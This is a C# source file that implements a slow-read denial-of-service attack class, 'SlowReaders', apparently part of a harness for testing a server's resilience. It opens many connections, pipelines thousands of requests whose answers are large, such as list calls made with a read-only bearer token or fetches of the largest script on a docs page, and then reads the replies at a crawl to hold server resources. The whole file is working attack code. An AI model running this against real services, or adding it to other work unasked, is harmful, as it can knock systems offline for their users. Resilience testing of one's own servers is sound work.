using System.Net.Sockets;
using System.Text;
using System.Text.RegularExpressions;

namespace Attacks;

/// <summary>Pipelines requests whose answers are large, and reads them slowly.</summary>
internal sealed partial class SlowReaders(
    string name, int connections, string description, Func<Target, CancellationToken, Task<string>> makeRequest, int pipelined = 16 * 1024, int readPerSecond = 1500)
    : Attack(name, connections, description)
{
    private readonly TimeSpan _readPause = TimeSpan.FromMilliseconds(100 * Math.Max(1, 10 / readPerSecond));
    private byte[] _requests = [];

    /// <summary>Lists 1,000 items with the token that may read only.</summary>
    public static Func<Target, CancellationToken, Task<string>> ListOf(string area) => (target, _) =>
        Task.FromResult(
            $"POST {Api}{area}/list HTTP/1.1\r\nHost: {target.Server.Authority}\r\nAuthorization: Bearer {target.ReadToken}\r\n"
            + "Content-Type: application/json\r\nContent-Length: 2\r\n\r\n{}");

    /// <summary>The largest script that the documentation page loads; the page itself when it loads none.</summary>
    public static async Task<string> DocsScriptAsync(Target target, CancellationToken ct)
    {
        using var http = new HttpClient { BaseAddress = target.Server };
        using var page = await http.GetAsync(new Uri("/docs", UriKind.Relative), ct);
        var base_ = page.RequestMessage!.RequestUri!;
        var (largest, size) = (base_, 0L);
        foreach (Match source in ScriptSource().Matches(await page.Content.ReadAsStringAsync(ct)))
        {
            var script = new Uri(base_, source.Groups[1].Value);
            var length = (await http.GetByteArrayAsync(script, ct)).LongLength;
            if (length > size)
                (largest, size) = (script, length);
        }

        return $"GET {largest.PathAndQuery} HTTP/1.1\r\nHost: {target.Server.Authority}\r\n\r\n";
    }

    protected override async Task PrepareAsync(Target target, CancellationToken ct)
    {
        var request = await makeRequest(target, ct);
        _requests = Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat(request, Math.Max(1, pipelined / request.Length))));
    }

    protected override async Task UseConnectionAsync(Socket socket, CancellationToken ct)
    {
        using var ended = CancellationTokenSource.CreateLinkedTokenSource(ct);
        var sending = SendAsync(socket, ended.Token);
        var buffer = new byte[Math.Max(1, readPerSecond / 10)];
        var isFirst = true;
        try
        {
            while (await socket.ReceiveAsync(buffer, SocketFlags.None, ct) is var received and > 0)
            {
                if (isFirst && received >= 12)
                    Answers.Add(Encoding.ASCII.GetString(buffer, 9, 3));
                isFirst = false;
                await Task.Delay(_readPause, ct);
            }

            Answers.Add("closed");
        }
        finally
        {
            await ended.CancelAsync();
            await sending;
        }
    }

    [GeneratedRegex("<script[^>]* src=\"([^\"]+)\"")]
    private static partial Regex ScriptSource();

    private async Task SendAsync(Socket socket, CancellationToken ct)
    {
        try
        {
            for (var sent = 0; sent < _requests.Length;)
                sent += await socket.SendAsync(_requests.AsMemory(sent), SocketFlags.None, ct);
        }
        catch (Exception error) when (error is SocketException or OperationCanceledException)
        {
            // The reader sees the same end of the connection and counts it.
        }
    }
}
